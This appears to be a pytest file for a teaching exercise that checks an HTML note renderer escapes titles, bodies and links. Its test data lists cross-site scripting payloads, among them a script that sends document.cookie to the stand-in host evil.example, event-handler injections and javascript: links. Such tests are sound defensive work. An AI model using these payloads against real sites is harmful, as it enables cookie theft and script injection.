"""Exercise 24: the only tags and attributes in the output are the template's."""

from html.parser import HTMLParser
from types import ModuleType

import pytest

ALLOWED = {"article": set(), "h2": set(), "p": set(), "br": set(), "a": {"href", "rel"}}


class Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Collect:
    parser = Collect()
    parser.feed(html)
    parser.close()
    return parser


def assert_only_ours(html: str) -> Collect:
    parsed = parse(html)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED, f"<{tag}> got into {html!r}"
        assert set(attrs) <= ALLOWED[tag], f"{attrs} on <{tag}> in {html!r}"
        if tag == "a":
            assert attrs["href"].lower().startswith(("http://", "https://")), html
    return parsed


ATTACKS = [
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '<img src=x onerror="alert(1)">',
    '" onmouseover="alert(1)',
    "'><svg onload=alert(1)>",
    "&lt;script&gt; is how you write it",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_title_and_body_are_text(exercise: ModuleType, attack: str) -> None:
    parsed = assert_only_ours(exercise.render_note(attack, attack))
    assert "".join(parsed.text) == attack + attack  # shown exactly, as text


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        "  JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        'https://ok.example/" onclick="alert(1)',
    ],
)
def test_only_http_links_and_no_attribute_escape(exercise: ModuleType, link: str) -> None:
    parsed = assert_only_ours(exercise.render_note("t", "b", link))
    if link.startswith("https://"):
        [attrs] = [a for tag, a in parsed.tags if tag == "a"]
        assert attrs["href"] == link  # the whole URL, quotes and all, inside the attribute


def test_good_notes_keep_their_line_breaks_and_links(exercise: ModuleType) -> None:
    html = exercise.render_note("Milk & eggs", "2 litres\n12 eggs", "https://shop.example/milk")
    parsed = assert_only_ours(html)
    assert [tag for tag, _ in parsed.tags] == ["article", "h2", "p", "br", "a"]
    assert "Milk & eggs" in "".join(parsed.text)
    assert dict(parsed.tags[-1][1])["rel"] == "nofollow noopener"
